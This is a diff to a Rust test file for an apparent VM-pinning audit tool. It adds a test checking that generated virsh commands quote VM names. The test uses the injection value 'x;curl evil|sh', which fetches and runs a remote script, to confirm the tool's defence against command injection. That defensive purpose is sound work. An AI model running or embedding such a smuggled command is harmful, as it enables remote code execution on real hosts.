@@ -403,11 +403,28 @@ fn vms_pinned_to_the_same_pcpus_are_found_while_others_are_free() {
     let mut isolated = host_of(&two);
     isolated.files.insert("/proc/cmdline".into(), "ro isolcpus=domain,3-4\n".into());
     assert!(audit(&isolated).iter().all(|f| f.setting != "pins of several VMs"));
-    // All pCPUs have pinned vCPUs: whoever overcommits a host so means it.
+    // All pCPUs have pinned vCPUs, so the host is overcommitted on purpose.
     let each: Vec<String> = (0..16).map(|cpu| cpu.to_string()).collect();
     let each: Vec<&str> = each.iter().map(String::as_str).collect();
     let t = host_of(&[pinned("b", 200, &each), pinned("c", 300, &["3", "4"])]);
     assert!(audit(&t).iter().all(|f| f.setting != "pins of several VMs"));
+}
+
+/// Any user can choose the name of a VM, and an administrator copies the command.
+#[test]
+fn names_are_quoted_in_commands() {
+    let xml = VM.replace("<name>web</name>", "<name>x;curl evil|sh</name>");
+    for f in audit(&tree(&[("/etc/libvirt/qemu/web.xml", &xml)])) {
+        for command in [&f.change, &f.undo].into_iter().flatten().filter(|c| c.contains("virsh")) {
+            assert!(command.contains("'x;curl evil|sh'"), "{command}");
+        }
+    }
+    let mut vm = pinned("x;curl evil|sh", 100, &["1", "1"]);
+    let line = vm.iter_mut().find(|(path, _)| path.ends_with("cmdline")).unwrap();
+    line.1.push_str("-object\0qom-type=secret,id=masterKey0\0");
+    let found = audit(&host_of(&[vm]));
+    let change = found.iter().find_map(|f| f.change.as_ref().filter(|c| c.contains("vcpupin"))).unwrap();
+    assert!(change.contains("virsh vcpupin 'x;curl evil|sh' 0"), "{change}");
 }
 
 #[test]
